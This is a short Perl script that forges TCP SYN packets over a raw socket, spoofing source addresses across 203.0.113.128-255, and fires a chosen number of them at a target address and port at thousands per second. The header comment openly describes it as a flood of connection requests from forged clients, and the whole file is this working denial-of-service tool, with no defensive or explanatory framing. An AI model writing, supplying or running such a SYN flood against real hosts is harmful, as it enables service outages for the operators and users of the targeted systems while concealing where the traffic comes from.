# SYNs that nobody means, each from another forged client, at some thousands a second.
#
#   perl flood.pl COUNT ADDRESS PORT      clients 203.0.113.128 .. 203.0.113.255, 10 ms for each ten
use strict;
use warnings;
use Socket qw(:all);

my ($count, $to, $port) = @ARGV;

sub sum {
    my $total = 0;
    $total += $_ for unpack('n*', shift);
    $total = ($total & 0xffff) + ($total >> 16) while $total > 0xffff;
    return ~$total & 0xffff;
}

socket(my $socket, AF_INET, SOCK_RAW, 255) or die "socket: $!\n";    # IPPROTO_RAW: with IP header
for my $n (0 .. $count - 1) {
    my ($from, $daddr) = (inet_aton('203.0.113.' . (128 + $n % 128)), inet_aton($to));
    my @fields = (20000 + $n, $port, 1000 + $n, 0, 5 << 12 | 2, 65535);
    my $pseudo = pack('a4 a4 n n', $from, $daddr, 6, 20);
    my $tcp = pack('n n N N n n n n', @fields, sum($pseudo . pack('n n N N n n n n', @fields, 0, 0)), 0);
    my $ip = pack('C C n n n C C n a4 a4', 0x45, 0, 40, $n + 1, 0x4000, 64, 6, 0, $from, $daddr);
    send($socket, $ip . $tcp, 0, pack_sockaddr_in(0, $daddr)) or die "send: $!\n";
    select(undef, undef, undef, 0.01) if $n % 10 == 9;
}
